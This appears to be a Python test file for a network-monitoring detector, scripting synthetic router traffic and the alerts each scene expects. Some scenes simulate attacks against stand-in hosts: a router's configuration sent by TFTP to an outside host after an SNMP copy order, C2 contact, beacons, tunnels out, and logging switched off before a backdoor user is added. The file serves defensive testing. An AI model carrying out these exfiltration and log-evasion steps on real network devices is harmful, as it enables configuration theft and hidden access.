"""What only memory tells apart: accounts, tickets, exceptions, stories of several steps, and what an element calls."""
import hashlib
import struct

from net import Talk, mac
from scapy.all import DNS, DNSQR, DNSRR, GRE, IP, UDP, Ether, Raw
from scapy.contrib.gtp import GTP_U_Header
from scapy.layers.ppp import PPP, PPPoE
from scenes_policy import CHANGE, QUIET, session
from stage import POLICY, scene
from wire import *

ACCOUNTS = POLICY.replace('jump, users: [alice]', 'jump, users: [alice, hw-kai]') + (
    'accounts: {break-glass: [root], service: [oxidized], vendor: ["hw-*"]}\n'
)
NIGHT = 3600 + 600  # inside of CHG-77


def record(n, h, element, user, host, *arguments, number=1):
    """An accounting record from ELEMENT, answered."""
    body = tacacs_record(user, host, arguments)
    told = tacacs(3, 2, bytes((0, 0, 0, 0, 1)), session=0x51AB00 + number)
    n.tcp(element, h.aaa, 49, [tacacs(3, 1, body, session=0x51AB00 + number), ('s', told)])


def announces(n, h, element, oid):
    """The trap OID of ELEMENT to the manager."""
    n.udp(element, 50000, h.nms, 162, trap(oid=oid))


def overlay(h):
    """What a tunnel carries: a user's frame."""
    return Ether(src=mac(h.user), dst=mac(h.web)) / IP(src=h.user, dst=h.web) / UDP(sport=4000, dport=5000) / Raw(b'x' * 60)


def vxlan_to(n, h, far):
    for _ in range(40):
        n.udp(h.r1, 49200, far, 4789, b'\x08\0\0\0\0\0\x46\0' + bytes(overlay(h)))
        n.wait(1)


def named(n, source, server, name, address):
    """SOURCE asks SERVER for NAME and is told ADDRESS."""
    six = ':' in address
    kind = 28 if six else 1
    n.port += 1
    asked = DNS(id=n.port, rd=1, qd=DNSQR(qname=name, qtype=kind))
    told = DNS(id=n.port, qr=1, ra=1, qd=DNSQR(qname=name, qtype=kind), an=DNSRR(rrname=name, type=kind, rdata=address, ttl=60))
    n.ask(source, server, 53, bytes(asked), bytes(told))


def described(n, h, element, version):
    """The agent of ELEMENT says what runs there."""
    oid = '1.3.6.1.2.1.1.1.0'
    text = f'Huawei Versatile Routing Platform Software\r\nVRP (R) software, Version {version} (NE40E V800R012)'
    n.ask(h.nms, element, 161, snmp('get', {oid: None}), snmp('response', {oid: text}))


# --- accounts, tickets, exceptions -------------------------------------------------------------------


@scene(want=[('break-glass', {'mgmt.actor.user': 'root', 'mgmt.actor.account': 'break-glass'})], policy=ACCOUNTS, also=QUIET)
def account_break_glass(n, h):
    session(n, h, h.jump, h.r1, 'root', ['show version'])


@scene(want=[], policy=ACCOUNTS, also=QUIET)
def account_of_a_person(n, h):
    session(n, h, h.jump, h.r1, 'rootman', ['show version'])


@scene(want=[('vendor-access', {'mgmt.actor.account': 'vendor'})], policy=ACCOUNTS, also=QUIET)
def account_vendor_by_day(n, h):
    session(n, h, h.jump, h.r1, 'hw-kai', ['show version'])


@scene(want=[], policy=ACCOUNTS, also=QUIET, at=NIGHT)
def account_vendor_in_window(n, h):
    session(n, h, h.jump, h.r1, 'hw-kai', CHANGE)


@scene(want=[], policy=ACCOUNTS, also=QUIET)
def account_service_reads(n, h):
    session(n, h, h.jump, h.r1, 'oxidized', ['show running-config'])


@scene(
    want=[('change-outside-window', {'mgmt.actor.user': 'bob', 'mgmt.actor.user_source': 'accounting'})],
    also=QUIET + ('accounting-without-session',),
    families=(4,),
)
def two_users_told_apart(n, h):
    """Two work through one jump host at once; the records say who did what."""
    one, two = (Talk(n, h.jump, h.r1, 22) for _ in range(2))
    for word in ssh_words(sealed=2):
        for talk in (one, two):
            talk.say(*(word if isinstance(word, tuple) else ('c', word)))
    record(n, h, h.r1, 'alice', h.jump, 'service=shell', 'task_id=1', 'cmd=show version <cr>', number=1)
    record(n, h, h.r1, 'bob', h.jump, 'service=shell', 'task_id=2', 'cmd=no ip route 0.0.0.0 0.0.0.0 10.9.9.9 <cr>', number=2)
    one.close()
    two.close()


@scene(want=[('change-outside-window', {'mgmt.actor.user': None})], also=QUIET, families=(4,))
def two_users_never_guessed(n, h):
    """The jump host's only known users were alice and bob; whose log line that is, nobody says."""
    for user in ('alice', 'bob'):
        session(n, h, h.jump, h.r1, user, ['show clock'])
    n.udp(h.r1, 514, h.log, 514, f'<189>9: %SYS-5-CONFIG_I: Configured from console by vty0 ({h.jump})'.encode())


@scene(want=[('unused-window', {'spanwatch.why.window': 'CHG-77'})], at=3500, also=QUIET)
def window_unused(n, h):
    for _ in range(8):
        session(n, h, h.jump, h.r1, 'alice', ['show version'])
        n.wait(590)


@scene(want=[], at=3500, also=QUIET)
def window_used(n, h):
    n.wait(700)
    session(n, h, h.jump, h.r1, 'alice', CHANGE)
    n.wait(3600)
    session(n, h, h.jump, h.r1, 'alice', ['show version'])


EXCEPTED = POLICY + (
    'exceptions: [{id: EX-1, finding: unexpected-outbound, from: routers, to: [203.0.113.80, "2001:db8:bad::50"], '
    'until: 2026-11-22T23:00:00Z, reason: pilot}]\n'
)


@scene(want=[('unexpected-outbound', {'spanwatch.excepted': 'EX-1'})], policy=EXCEPTED)
def exception_holds(n, h):
    n.tcp(h.r1, h.web, 443, tls_words('pilot.example'))


@scene(want=[('unexpected-outbound', {'spanwatch.excepted': None})], policy=EXCEPTED)
def exception_of_another(n, h):
    n.tcp(h.r1, h.evil, 443, tls_words('pilot.example'))


# --- what an element calls ---------------------------------------------------------------------------

UPDATES = POLICY.replace(
    'windows:', '  - {id: updates, from: routers, to: {domains: ["*.update.example"]}, over: [tls]}\nwindows:'
)


@scene(want=[], policy=UPDATES)
def called_by_permitted_name(n, h):
    named(n, h.r1, h.dns, 'eu.update.example', h.web)
    n.wait(1)
    n.tcp(h.r1, h.web, 443, tls_words('eu.update.example'))


@scene(want=['unexpected-outbound'], policy=UPDATES)
def called_by_name_of_another(n, h):
    named(n, h.r1, h.dns, 'update.example.evil.test', h.evil)
    n.wait(1)
    n.tcp(h.r1, h.evil, 443, tls_words('update.example.evil.test'))


@scene(want=[('unexpected-outbound', {'spanwatch.message': '*c2.bad.test*'})])
def called_without_saying_the_name(n, h):
    named(n, h.r1, h.dns, 'c2.bad.test', h.evil)
    n.wait(1)
    n.tcp(h.r1, h.evil, 4444, [bytes(range(200)), ('s', bytes(range(90)))])


@scene(want=[('unexpected-outbound', {'spanwatch.message': '*Cisco*'})])
def call_home(n, h):
    named(n, h.r1, h.dns, 'tools.cisco.com', h.web)
    n.tcp(h.r1, h.web, 443, tls_words('tools.cisco.com'))


@scene(want=['unexpected-outbound', 'beacon'])
def one_packet_in_ten_minutes(n, h):
    for _ in range(24):
        n.udp(h.r3, 40999, h.evil, 5555, b'\x91still here')
        n.wait(599)


@scene(want=[])
def one_packet_in_ten_minutes_to_the_clock(n, h):
    for _ in range(24):
        n.udp(h.r3, 123, h.time, 123, b'\x23' + bytes(47))
        n.wait(599)


@scene(want=['unexpected-tunnel'], families=(4,), also=('unexpected-outbound',))
def vxlan_to_outside(n, h):
    vxlan_to(n, h, h.evil)


@scene(
    want=[],
    families=(4,),
    policy=POLICY.replace('windows:', '  - {id: fabric, from: routers, to: routers, over: [vxlan, gre]}\nwindows:'),
)
def vxlan_of_the_fabric(n, h):
    vxlan_to(n, h, h.r2)


# --- servers that change -----------------------------------------------------------------------------


@scene(want=['new-control-target', 'unexpected-outbound'])
def clock_moved(n, h):
    for server in (h.time, h.evil):
        for _ in range(6):
            n.ask(h.r1, server, 123, b'\x23' + bytes(47), b'\x24' + bytes(47), sport=123)
            n.wait(300)


@scene(want=[], policy=POLICY.replace('[10.61.0.50', '[10.61.0.51, "2001:db8:61::33", 10.61.0.50'))
def clock_has_two(n, h):
    second = h.time[:-2] + ('33' if h.six else '51')
    for server in (h.time, second, h.time):
        for _ in range(6):
            n.ask(h.r1, server, 123, b'\x23' + bytes(47), b'\x24' + bytes(47), sport=123)
            n.wait(300)


COLLECTED = POLICY.replace('permits:\n', 'permits:\n  - {id: flows, from: routers, to: logs, over: [netflow]}\n')


@scene(want=['new-control-target', 'unexpected-outbound'], families=(4,), policy=COLLECTED)
def flows_exported_elsewhere(n, h):
    head = struct.pack('>HHIIIIBBH', 5, 1, 1000, 1795305600, 0, 1, 0, 0, 0)
    for collector in (h.log, h.evil):
        for _ in range(5):
            n.udp(h.r1, 50100, collector, 2055, head + bytes(48))
            n.wait(20)


# --- logins and records ------------------------------------------------------------------------------


def asks(n, h, element, user):
    """Telnet whose login the element has TACACS+ decide."""
    start = bytes((1, 1, 2, 1, len(user), 4, len(h.jump), 0)) + user.encode() + b'tty2' + h.jump.encode()
    passed = tacacs(1, 2, bytes((1, 0, 0, 0, 0, 0)), session=n.port)
    n.tcp(element, h.aaa, 49, [tacacs(1, 1, start, session=n.port), ('s', passed)])
    session(n, h, h.jump, element, user, ['show clock'])


@scene(want=['login-without-aaa'])
def login_past_aaa(n, h):
    asks(n, h, h.r1, 'alice')
    n.wait(600)
    session(n, h, h.jump, h.r1, 'mallory', ['show clock'])
    n.wait(120)
    snmp_asked(n, h.nms, h.r1, 'get', {'1.3.6.1.2.1.1.3.0': None})


@scene(want=[])
def login_by_aaa(n, h):
    for _ in range(2):
        asks(n, h, h.r1, 'alice')
        n.wait(600)
    snmp_asked(n, h.nms, h.r1, 'get', {'1.3.6.1.2.1.1.3.0': None})


# --- stories -----------------------------------------------------------------------------------------


@scene(
    want=[('config-export', {'spanwatch.why.rule': 'order-then-transfer'}), 'unexpected-outbound'],
    families=(4,),
    also=('unexpected-manager', 'unpermitted-change', 'plane-violation'),
)
def ordered_and_sent(n, h):
    snmp_asked(n, h.stranger, h.r1, 'set', {'1.3.6.1.4.1.9.2.1.55.203.0.113.77': 'r1.cfg'})
    n.wait(4)
    tftp_put(n, h.r1, h.evil, 'r1.cfg', b'version 15.2\nhostname r1\nend\n')


@scene(
    want=[('log-silence', {'spanwatch.why.rule': 'log-stop-then-session'})],
    also=QUIET + ('change-outside-window', 'logging-disabled', 'unpermitted-change'),
)
def logs_off_then_work(n, h):
    for command in ('no logging 10.61.0.40', 'username x secret y'):
        session(n, h, h.jump, h.r1, 'eve', [('conf t', '', 'pe1(config)#'), (command, '', 'pe1(config)#'), ('end', '', 'pe1#')])
        n.wait(300)


@scene(
    want=[('unexpected-tunnel', {'spanwatch.why.rule': '*-then-tunnel'})],
    families=(4,),
    also=QUIET + ('change-outside-window', 'unexpected-outbound', 'unpermitted-change'),
)
def command_then_tunnel(n, h):
    typed = ('conf t', 'interface Tunnel9', 'tunnel destination 203.0.113.77', 'end')
    session(n, h, h.jump, h.r1, 'eve', [(line, '', 'pe1(config-if)#') for line in typed])
    n.wait(900)
    for _ in range(40):
        n.ip(h.r1, h.evil, GRE(proto=0x0800) / overlay(h)[IP])
        n.wait(2)


@scene(
    want=[('unapproved-image', {'spanwatch.why.rule': 'image-restart-version'})],
    families=(4,),
    also=('unexpected-outbound', 'version-change', 'change-outside-window'),
)
def image_restart_version(n, h):
    described(n, h, h.r2, '8.120')
    n.wait(60)
    tftp_put(n, h.r2, h.evil, 'core.cc', b'\x7fELF' + hashlib.sha256(b'y').digest() * 80, opcode=1)
    n.wait(600)
    announces(n, h, h.r2, '1.3.6.1.6.3.1.1.5.1')
    n.wait(120)
    described(n, h, h.r2, '8.090')


@scene(want=[], families=(4,), also=('change-outside-window',))
def restart_same_version(n, h):
    for _ in range(2):
        described(n, h, h.r2, '8.120')
        n.wait(60)
        announces(n, h, h.r2, '1.3.6.1.6.3.1.1.5.1')
        n.wait(60)


@scene(want=[('change-outside-window', {'mgmt.verb': 'reboot', 'mgmt.evidence': 'attested'})], families=(4,))
def restart_of_itself(n, h):
    announces(n, h, h.r2, '1.3.6.1.6.3.1.1.5.2')


@scene(want=[], families=(4,))
def link_went_down(n, h):
    announces(n, h, h.r2, '1.3.6.1.6.3.1.1.5.3')


@scene(want=[], also=QUIET, at=NIGHT, families=(4,), policy=POLICY.replace('elements: r1, actors', 'elements: routers, actors'))
def rollout_in_its_window(n, h):
    for number in range(1, 8):
        session(n, h, h.jump, h.r1[:-1] + str(number), 'alice', CHANGE)
        n.wait(20)


# --- planes ------------------------------------------------------------------------------------------


@scene(want=['plane-violation'], families=(4,), also=('unexpected-manager',))
def managed_from_a_phone(n, h):
    head = IP(src='172.31.4.1', dst='172.31.4.2') / UDP(sport=2152, dport=2152)
    for word in range(4):
        ask = IP(src=h.user, dst=h.r1) / UDP(sport=5000 + word, dport=161) / Raw(snmp('get', {'1.3.6.1.2.1.1.1.0': None}))
        n.frame(Ether(src=mac('172.31.4.1'), dst=mac('172.31.4.2')) / head / GTP_U_Header(teid=77, gtp_type=255) / ask)
        back = IP(src=h.r1, dst=h.user) / UDP(sport=161, dport=5000 + word) / Raw(snmp('response', {'1.3.6.1.2.1.1.1.0': 'x'}))
        n.frame(Ether(src=mac('172.31.4.2'), dst=mac('172.31.4.1')) / head / GTP_U_Header(teid=78, gtp_type=255) / back)
        n.wait(2)


@scene(want=['plane-violation'], families=(4,), also=('unexpected-manager',))
def managed_from_a_line(n, h):
    for word in range(4):
        ask = IP(src=h.user, dst=h.r1) / UDP(sport=5000 + word, dport=161) / Raw(snmp('get', {'1.3.6.1.2.1.1.1.0': None}))
        n.frame(Ether(src=mac(h.user), dst=mac(h.r1), type=0x8864) / PPPoE(sessionid=7) / PPP(proto=0x21) / ask)
        n.wait(2)


@scene(want=[], families=(4,))
def phone_that_surfs(n, h):
    head = IP(src='172.31.4.1', dst='172.31.4.2') / UDP(sport=2152, dport=2152)
    for word in range(4):
        ask = IP(src=h.user, dst=h.web) / UDP(sport=5000 + word, dport=443) / Raw(bytes(range(200)))
        n.frame(Ether(src=mac('172.31.4.1'), dst=mac('172.31.4.2')) / head / GTP_U_Header(teid=77, gtp_type=255) / ask)
        n.wait(2)


# --- what several sources tell of one deed, and what one of them does not ---------------------------



def paired(n, h, user, change, number, recorded=True):
    """A typed change, its accounting record and its log line."""
    session(n, h, h.jump, h.r1, user, [('conf t', '', 'pe1(config)#'), (change, '', 'pe1(config)#'), ('end', '', 'pe1#')])
    if recorded:
        record(n, h, h.r1, user, h.jump, 'service=shell', f'task_id={number}', f'cmd={change} <cr>', number=number)
    text = f'%SYS-5-CONFIG_I: Configured from console by {user} on vty0 ({h.jump})'
    n.udp(h.r1, 514, h.log, 514, f'<189>{number}: {text}'.encode())
    n.wait(60)


@scene(want=['no-accounting'], at=NIGHT, also=('login-without-aaa',))
def change_without_record(n, h):
    for number in range(1, 4):
        paired(n, h, 'alice', f'ntp server 10.61.0.5{number}', number)
    paired(n, h, 'alice', 'snmp-server community zq1 RO', 4, recorded=False)
    snmp_asked(n, h.nms, h.r1, 'get', {'1.3.6.1.2.1.1.3.0': None})


@scene(want=[], at=NIGHT, also=('login-without-aaa',))
def changes_with_records(n, h):
    for number in range(1, 5):
        paired(n, h, 'alice', f'ntp server 10.61.0.5{number}', number)
    snmp_asked(n, h.nms, h.r1, 'get', {'1.3.6.1.2.1.1.3.0': None})


@scene(want=['accounting-without-session'], at=NIGHT, also=('no-accounting', 'login-without-aaa', 'unexpected-manager'))
def record_without_session(n, h):
    for number in range(1, 3):
        paired(n, h, 'alice', f'ntp server 10.61.0.5{number}', number)
    n.wait(2400)
    record(n, h, h.r1, 'alice', h.stranger, 'service=shell', 'task_id=9', 'cmd=show users <cr>', number=9)
    for _ in range(4):
        n.wait(60)
        snmp_asked(n, h.nms, h.r1, 'get', {'1.3.6.1.2.1.1.3.0': None})


@scene(want=[('break-glass', {'mgmt.evidence': 'attested'})], policy=ACCOUNTS, also=QUIET)
def account_break_glass_by_log(n, h):
    text = f'%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: root] [Source: {h.jump}] [localport: 22] at 03:00:01'
    n.udp(h.r1, 514, h.log, 514, f'<189>7: {text}'.encode())


OBSERVED = POLICY.replace('version: 1\n', 'version: 1\nmode: observe\n')


@scene(
    want=[('unexpected-outbound', {'spanwatch.observe': True, 'alert.severity': 4})],
    policy=OBSERVED,
)
def observed(n, h):
    n.tcp(h.r1, h.evil, 443, tls_words('x.example'))


@scene(
    want=[('change-outside-window', {'mgmt.subject': 'logging', 'spanwatch.observe': None, 'alert.severity': 2})],
    policy=OBSERVED,
    also=QUIET,
)
def observed_but_loud(n, h):
    typed = ('conf t', 'no logging 10.61.0.40', 'end')
    session(n, h, h.jump, h.r1, 'eve', [(word, '', 'pe1(config)#') for word in typed])


VENDORS = POLICY.replace('permits:', '  makers: {role: vendor, addresses: [10.61.0.80, "2001:db8:61::50"]}\npermits:')


@scene(want=['vendor-access'], policy=VENDORS, also=('unexpected-manager',) + QUIET)
def vendor_uninvited(n, h):
    n.tcp(h.vendor, h.r1, 22, ssh_words())


@scene(
    want=[],
    policy=VENDORS.replace('windows:', '  - {id: care, from: makers, to: routers, over: [ssh]}\nwindows:'),
    also=QUIET,
)
def vendor_permitted(n, h):
    n.tcp(h.vendor, h.r1, 22, ssh_words())


# --- the element speaking, and what passes through it ------------------------------------------------


def lldp(name, address):
    """A neighbour's announcement: chassis, port, lifetime, name, description, capabilities, management address."""

    def part(kind, data):
        return struct.pack('>H', kind << 9 | len(data)) + data

    packed = bytes(map(int, address.split('.')))
    return (
        part(1, b'\4\2\x44\x0a\x3c\1\1')
        + part(2, b'\5Gi0/1')
        + part(3, b'\0\x78')
        + part(5, name)
        + part(6, b'Cisco IOS Software, C3900 Software, Version 15.2(4)M7')
        + part(7, b'\0\x10\0\x10')
        + part(8, b'\5\1' + packed + b'\2\0\0\0\1\0')
        + part(0, b'')
    )


def announced(n, h, name, address):
    for _ in range(3):
        n.frame(Ether(src=mac(h.r1), dst='01:80:c2:00:00:0e', type=0x88CC) / Raw(lldp(name, address)))
        n.wait(30)


@scene(want=['unlisted-element'], families=(4,))
def announced_by_nobody_listed(n, h):
    announced(n, h, b'sw-attic', '10.88.0.1')


@scene(want=[], families=(4,))
def announced_by_who_is_listed(n, h):
    announced(n, h, b'r1.example.net', '10.88.0.1')
    announced(n, h, b'pe1', '10.60.1.1')
